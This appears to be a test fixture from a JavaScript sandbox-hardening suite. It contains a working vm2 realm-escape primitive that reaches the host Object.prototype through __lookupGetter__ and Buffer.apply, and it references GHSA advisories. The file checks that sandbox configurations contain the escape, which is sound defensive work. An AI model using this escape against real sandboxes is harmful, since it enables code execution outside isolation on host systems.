/*---
id: re-array-species-05-lookup-getter-buffer-apply
description: "The __lookupGetter__ + Buffer.apply walk: Buffer.apply applies the
  __proto__ getter to Buffer.of()'s chain out to the host Object.prototype,
  whose constructor's defineProperty writes to it."
kind: malicious
category: realm-escape
technique: RE-array-species
variant: plain
references:
  - GHSA-grj5-jjm8-h35p (the walk)
  - GHSA-47x8-96vw-5wg6
proven:
  - vm2@3.9.19
expect:
  ultra-secure:
    outcome: contained
    value: held
  high-security:
    outcome: contained
    value: held
  tenant-isolated:
    outcome: contained
    value: held
---*/
// The __lookupGetter__ + Buffer.apply walk (the primitive of GHSA-grj5-jjm8-h35p, GHSA-vwrp-x96c-mhwq and
// GHSA-47x8-96vw-5wg6): it reaches the host Object constructor, whose own defineProperty (a host function,
// not a bridge write trap) writes to a host prototype: the oracle sees the host change.
if (typeof Buffer !== 'function') return 'held';
const g = ({}).__lookupGetter__;
const a = Buffer.apply;
const p = a.apply(g, [Buffer, ['__proto__']]);
const hostObjectPrototype = p.call(p.call(p.call(p.call(Buffer.of()))));
const HostObject = hostObjectPrototype.constructor;
if (HostObject === Object) return 'held';
const hostError = p.call(HostObject.getPrototypeOf(new Error('x')));
const target = hostError && hostError !== Object.prototype ? hostError : hostObjectPrototype;
HostObject.defineProperty(target, 'sandproofWalked', { value: 'ESCAPED', configurable: true });
return 'held';
